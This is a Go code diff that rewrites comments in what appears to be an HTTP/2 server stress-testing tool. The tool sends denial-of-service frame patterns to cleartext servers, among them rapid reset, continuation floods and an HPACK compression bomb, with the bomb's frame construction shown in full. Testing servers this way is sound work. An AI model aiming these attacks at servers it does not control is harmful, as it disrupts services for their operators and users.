@@ -11,8 +11,8 @@ import (
 	"time"
 )
 
-// H2Attack attacks a server on connections in clear text, by actions that cost the server more than its client. It replaces a
-// connection that the server closes.
+// H2Attack attacks a server on connections in clear text, with frames that cost the server more work than the client. It
+// opens a new connection for each one that the server closes.
 type H2Attack struct {
 	Addr        string
 	Kind        string // one of H2AttackKinds
@@ -21,17 +21,17 @@ type H2Attack struct {
 	Duration    time.Duration
 }
 
-// H2AttackResult counts the steps and connections of an attack.
+// H2AttackResult has the numbers of steps and of connections of an attack.
 type H2AttackResult struct {
 	Steps int64 `json:"steps"`
-	Ended int64 `json:"ended"` // connections that the server has closed
+	Ended int64 `json:"ended"` // connections that the server closed
 }
 
-// An h2Attack describes the frames of one kind of attack on a connection.
+// An h2Attack describes the frames that one kind of attack sends on a connection.
 type h2Attack struct {
 	settings string
-	begin    string             // sent first
-	step     func(i int) string // sent repeatedly, for i from 0; nil: begin is everything
+	begin    string             // sent once at the beginning
+	step     func(i int) string // returns the frames of step i, counted from 0; nil if the attack consists only of begin
 }
 
 func h2Frames(frames ...[]byte) string { return string(slices.Concat(frames...)) }
@@ -44,7 +44,7 @@ func h2Post(id uint32) []byte {
 	return h2Frame(nil, h2Headers, h2EndHeaders, id, h2Block("POST", "/echo"))
 }
 
-// H2AttackKinds are the names of the kinds, in the order of a report.
+// H2AttackKinds has the names of the kinds, in the order of the report.
 var H2AttackKinds = []string{
 	"rapid-reset", "made-you-reset", "continuation", "hpack-bomb", "ping", "settings", "empty-data", "window-update", "priority",
 	"zero-window", "half-open",
@@ -64,7 +64,8 @@ var h2Attacks = map[string]h2Attack{
 		step:  func(int) string { return h2Frames(h2Frame(nil, h2Continuation, 0, 1, manyFields)) },
 	},
 	"hpack-bomb": {step: func(i int) string {
-		// An entry as large as the table, which is referenced thousands of times by a byte each (RFC 7541, section 7.3).
+		// The table contains an entry that is as large as the table. Each reference to it has only one byte (RFC 7541,
+		// section 7.3).
 		bomb := h2Block("GET", "/plaintext") + "\x40" + h2Literal("bomb") + h2Literal(strings.Repeat("x", 4000)) + strings.Repeat("\xbe", 12_000)
 		return h2Frames(h2Frame(nil, h2Headers, h2EndStream|h2EndHeaders, uint32(2*i+1), bomb))
 	}},
@@ -85,7 +86,7 @@ var h2Attacks = map[string]h2Attack{
 	"half-open":   {begin: h2ForEach(h2Post)},
 }
 
-// h2ForEach returns the frames of a kind that opens a hundred streams.
+// h2ForEach returns the frames that open returns for a hundred streams.
 func h2ForEach(open func(id uint32) []byte) string {
 	var all []byte
 	for i := range uint32(100) {
@@ -94,7 +95,7 @@ func h2ForEach(open func(id uint32) []byte) string {
 	return string(all)
 }
 
-// Run returns after Duration.
+// Run attacks for Duration.
 func (a H2Attack) Run(ctx context.Context) (H2AttackResult, error) {
 	kind, known := h2Attacks[a.Kind]
 	if !known {
@@ -117,7 +118,7 @@ func (a H2Attack) Run(ctx context.Context) (H2AttackResult, error) {
 	return H2AttackResult{Steps: steps.Load(), Ended: ended.Load()}, nil
 }
 
-// connection attacks on one connection, and reports whether the server has closed it.
+// connection attacks on one connection. It reports whether the server has closed the connection.
 func (a H2Attack) connection(ctx context.Context, kind h2Attack, steps *atomic.Int64) bool {
 	conn, err := dialH2(a.Addr, kind.settings)
 	if err != nil {
@@ -148,7 +149,7 @@ func (a H2Attack) connection(ctx context.Context, kind h2Attack, steps *atomic.I
 	return a.steps(ctx, conn, kind, steps, over)
 }
 
-// steps sends the connection's share of the rate, in batches of a millisecond.
+// steps sends the steps of one connection in batches, one for each millisecond.
 func (a H2Attack) steps(ctx context.Context, conn net.Conn, kind h2Attack, steps *atomic.Int64, over <-chan struct{}) bool {
 	const pace = time.Millisecond
 	share := float64(a.Rate) / float64(a.Connections)
